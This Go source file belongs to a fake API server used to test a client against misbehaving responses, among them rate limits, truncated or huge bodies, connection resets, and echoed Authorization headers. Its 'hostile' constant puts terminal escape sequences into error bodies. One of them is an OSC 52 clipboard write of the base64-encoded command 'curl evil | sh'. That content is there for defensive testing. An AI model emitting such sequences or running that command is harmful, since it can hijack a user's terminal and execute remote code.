package fakeapi

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"strconv"
	"time"
)

// Faults makes the server misbehave in the ways the API notes say a client
// must survive. The zero value is a well-behaved server. Faults can be
// combined; ServeHTTP documents which one wins.
type Faults struct {
	// RateLimit makes the next N requests get 429 with Retry-After.
	RateLimit int
	// RetryAfter is the Retry-After value sent with 429s: seconds ("1") or
	// an HTTP date. "" means "1".
	RetryAfter string
	// FailOnce maps page -> status: the first request for that page (of any
	// type) fails with the status, later ones succeed. A 429 or 503 carries
	// Retry-After.
	FailOnce map[int]int
	// FailAlways, when not 0, is the status of every response (JSON error
	// body).
	FailAlways int
	// MalformedJSON makes listings 200 with the body cut in half.
	MalformedJSON bool
	// HTMLError, when not 0, answers every request with this status and an
	// HTML page, as a proxy in front of the API would.
	HTMLError int
	// TotalCountDelta is added to the real total_count (clamped at 0):
	// the provider's own example under-reports it.
	TotalCountDelta int
	// IgnorePage serves page 1 whatever page is asked for (and says so in
	// the page field).
	IgnorePage bool
	// DuplicateAcrossPages makes each page after the first start with the
	// last image of the previous page.
	DuplicateAcrossPages bool
	// CutMidBody makes listings announce the full Content-Length, send half
	// of the body and close the connection. Where the connection cannot be
	// hijacked (HTTP/2, httptest.ResponseRecorder) the handler just stops
	// after half the body, which net/http also turns into a short read.
	CutMidBody bool

	// FailPages maps page -> status: every request for that page (of any
	// type) fails with the status until the faults change. It is checked
	// where FailOnce is, after auth and validation.
	FailPages map[int]int
	// Delay holds each listing this long before its headers, on top of
	// Options.Latency: a server slower than the client's timeout. A
	// request whose context ends during the wait gets no response.
	Delay time.Duration
	// StallBody makes listings send the headers and half of the body, then
	// wait this long (or until the client leaves) before the rest: a
	// server that stalls mid-body.
	StallBody time.Duration
	// HugeBody, when > 0, makes listings 200 with a valid JSON body of
	// about HugeBody MiB (the page padded by an unknown field), streamed
	// without being held in memory.
	HugeBody int
	// EmptyFrom, when > 0, serves page EmptyFrom and every later page with
	// no images and the real total_count: a listing that ends early.
	// 1 makes every page empty.
	EmptyFrom int
	// EchoAuth makes error responses (JSON and HTML) quote the request's
	// Authorization header, as a proxy that echoes headers would. A client
	// must never print what it sent.
	EchoAuth bool
	// FailEndpoints maps an endpoint ("images" or "snapshots") to the
	// status every request to it fails with until the faults change: 404
	// makes a seed server that predates /snapshots, 400 one that refuses
	// it. It is checked after auth and validation, before FailOnce.
	FailEndpoints map[string]int
	// TruncateOnce lists pages whose first listing (on either endpoint)
	// is a 200 with its JSON cut in half and a Content-Length that
	// matches, so the exchange is complete and only the body is bad; later
	// requests for those pages are answered in full. SetFaults re-arms it.
	TruncateOnce []int
	// HostileErrors puts terminal escape sequences (a screen clear, a
	// cursor move, a title change, an OSC 52 clipboard write) into error
	// bodies, JSON messages and HTML pages alike, as a hostile or broken
	// proxy might. A client must show none of them, nor any tail of one.
	HostileErrors bool
	// Reset makes listings reset the connection (a TCP RST, no reply at
	// all) once the request has been read and any Delay waited, as a
	// crashing backend or a middlebox dropping state would. A client sees
	// ECONNRESET. Where the connection cannot be hijacked the handler
	// aborts (http.ErrAbortHandler). Go's transport itself re-sends a GET
	// reset on a reused keep-alive connection once before a client hears
	// of it.
	Reset bool
	// Times, when > 0, limits HTMLError and the listing faults (Delay,
	// StallBody, HugeBody, CutMidBody, MalformedJSON, Reset) to the next Times
	// responses they shape; after that the server behaves. 0 means they
	// last until the faults change. SetFaults re-arms the count.
	Times int
}

func (f Faults) retryAfter() string {
	if f.RetryAfter == "" {
		return "1"
	}
	return f.RetryAfter
}

// shapesListing reports whether a listing fault that Times counts is set.
func (f Faults) shapesListing() bool {
	return f.Delay > 0 || f.StallBody > 0 || f.HugeBody > 0 || f.CutMidBody || f.MalformedJSON || f.Reset
}

// withoutListingFaults is f with the faults Times counts turned off.
func (f Faults) withoutListingFaults() Faults {
	f.Delay, f.StallBody, f.HugeBody, f.CutMidBody, f.MalformedJSON, f.Reset = 0, 0, 0, false, false, false
	return f
}

// SetFaults replaces the fault set. It restarts the RateLimit countdown and
// re-arms every FailOnce and TruncateOnce page. The maps and slices are
// copied; the caller may reuse them.
func (s *Server) SetFaults(f Faults) {
	once := maps.Clone(f.FailOnce)
	f.FailOnce = nil // the armed copy lives in s.failOnce
	trunc := make(map[int]bool, len(f.TruncateOnce))
	for _, p := range f.TruncateOnce {
		trunc[p] = true
	}
	f.TruncateOnce = nil // the armed copy lives in s.truncOnce
	f.FailPages = maps.Clone(f.FailPages)
	f.FailEndpoints = maps.Clone(f.FailEndpoints)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.faults = f
	s.rateLeft = f.RateLimit
	s.failOnce = once
	s.truncOnce = trunc
	s.timesLeft = f.Times
}

// takeTimes reports whether a fault counted by Faults.Times may shape this
// response, and uses one up.
func (s *Server) takeTimes(f Faults) bool {
	if f.Times <= 0 {
		return true
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.timesLeft <= 0 {
		return false
	}
	s.timesLeft--
	return true
}

// takeFailOnce returns the status page must fail with now, or 0, and
// disarms it.
func (s *Server) takeFailOnce(page int) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	status, ok := s.failOnce[page]
	if !ok {
		return 0
	}
	delete(s.failOnce, page)
	return status
}

// takeTruncateOnce reports whether page's listing must be sent truncated
// now, and disarms it.
func (s *Server) takeTruncateOnce(page int) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.truncOnce[page] {
		return false
	}
	delete(s.truncOnce, page)
	return true
}

// hostile is what Faults.HostileErrors puts into error bodies: a screen
// clear and cursor home (the "[2J" a careless client leaves behind), a
// title change, and an OSC 52 write of "curl evil | sh" to the clipboard.
const hostile = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"

// replier writes one response and records its status in the request log
// before the first byte goes out, so a client that has its answer always
// finds it logged.
type replier struct {
	s       *Server
	w       http.ResponseWriter
	entry   *Request
	echo    string // Faults.EchoAuth: the Authorization header to quote in errors
	hostile bool   // Faults.HostileErrors
}

// echoed appends the quoted Authorization header to an error message.
func (p replier) echoed(msg string) string {
	if p.echo == "" {
		return msg
	}
	return msg + " (request had Authorization: " + p.echo + ")"
}

func (p replier) record(status int) {
	p.s.mu.Lock()
	p.entry.Status = status
	p.s.mu.Unlock()
}

func (p replier) sendJSON(status int, body []byte) {
	p.record(status)
	p.jsonHeader(status, int64(len(body)))
	_, _ = p.w.Write(body) // a write error means the client left; nothing to do
}

// jsonHeader sends the status line and headers of a JSON body that
// announces length bytes (the faulty senders announce more than they send).
func (p replier) jsonHeader(status int, length int64) {
	h := p.w.Header()
	h.Set("Content-Type", "application/json")
	h.Set("Content-Length", strconv.FormatInt(length, 10))
	p.w.WriteHeader(status)
}

// errorBody is the provider's error shape.
type errorBody struct {
	Code    string `json:"code"`
	Message string `json:"message"`
}

func (p replier) sendError(status int, code, message string) {
	if p.hostile {
		message = hostile + message
	}
	body, _ := json.Marshal(errorBody{Code: code, Message: p.echoed(message)}) // cannot fail for two strings
	p.sendJSON(status, body)
}

// sendFailure answers with an injected status and a JSON error body. A
// 429 or 503 carries Retry-After; so does every other status when the
// test set Faults.RetryAfter itself.
func (p replier) sendFailure(status int, f Faults) {
	if status == http.StatusTooManyRequests || status == http.StatusServiceUnavailable || f.RetryAfter != "" {
		p.w.Header().Set("Retry-After", f.retryAfter())
	}
	msg := http.StatusText(status)
	if msg == "" {
		msg = "injected failure"
	}
	p.sendError(status, statusCode(status), msg)
}

// sendHTML answers like a reverse proxy whose upstream failed (or, with
// status 200, like a captive portal). It carries Retry-After when the test
// set Faults.RetryAfter.
func (p replier) sendHTML(status int, f Faults) {
	p.record(status)
	title := fmt.Sprintf("%d %s", status, http.StatusText(status))
	h1 := p.echoed(title)
	if p.hostile {
		h1 = hostile + h1
	}
	body := "<html>\r\n<head><title>" + title + "</title></head>\r\n<body>\r\n<center><h1>" + h1 +
		"</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n"
	h := p.w.Header()
	if f.RetryAfter != "" {
		h.Set("Retry-After", f.retryAfter())
	}
	h.Set("Content-Type", "text/html; charset=utf-8")
	h.Set("Content-Length", strconv.Itoa(len(body)))
	p.w.WriteHeader(status)
	_, _ = p.w.Write([]byte(body))
}

// sendCut sends a 200 announcing all of body, writes half of it and drops the
// connection.
func (p replier) sendCut(body []byte) {
	p.record(http.StatusOK)
	half := body[:len(body)/2]
	conn, rw, err := http.NewResponseController(p.w).Hijack()
	if err != nil {
		p.jsonHeader(http.StatusOK, int64(len(body)))
		_, _ = p.w.Write(half)
		return
	}
	defer conn.Close()
	_, _ = fmt.Fprintf(rw, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", len(body))
	_, _ = rw.Write(half)
	_ = rw.Flush()
}

// sendReset resets the connection without a reply: SO_LINGER 0 makes
// the close send an RST instead of a FIN. The request log keeps status 0.
func (p replier) sendReset() {
	conn, _, err := http.NewResponseController(p.w).Hijack()
	if err != nil {
		panic(http.ErrAbortHandler) // net/http drops the connection, quietly
	}
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetLinger(0)
	}
	_ = conn.Close()
}

// sendStalled sends a 200 announcing all of body, writes half of it, waits
// d (or until the client leaves), then writes the rest.
func (p replier) sendStalled(ctx context.Context, body []byte, d time.Duration) {
	p.record(http.StatusOK)
	p.jsonHeader(http.StatusOK, int64(len(body)))
	half := len(body) / 2
	if _, err := p.w.Write(body[:half]); err != nil {
		return
	}
	_ = http.NewResponseController(p.w).Flush()
	if !sleep(ctx, d) {
		return
	}
	_, _ = p.w.Write(body[half:])
}

// sendHuge sends a 200 whose body is the listing body with an unknown
// "padding" field of mib MiB in front, written in chunks so the server
// never holds it. It stops as soon as the client stops reading.
func (p replier) sendHuge(body []byte, mib int) {
	p.record(http.StatusOK)
	const head = `{"padding":"`
	tail := append([]byte(`",`), body[1:]...) // body is a JSON object: drop its "{"
	size := int64(len(head)) + int64(mib)<<20 + int64(len(tail))
	p.jsonHeader(http.StatusOK, size)
	if _, err := io.WriteString(p.w, head); err != nil {
		return
	}
	chunk := bytes.Repeat([]byte("x"), 64<<10)
	for left := int64(mib) << 20; left > 0; left -= int64(len(chunk)) {
		if _, err := p.w.Write(chunk[:min(left, int64(len(chunk)))]); err != nil {
			return
		}
	}
	_, _ = p.w.Write(tail)
}

// statusCode makes a provider-shaped code for an HTTP status: 503 -> "05003".
// It agrees with the named codes (429 -> codeRateLimited, 500 ->
// codeServerError).
func statusCode(status int) string {
	return fmt.Sprintf("%02d%03d", status/100%100, status%100)
}
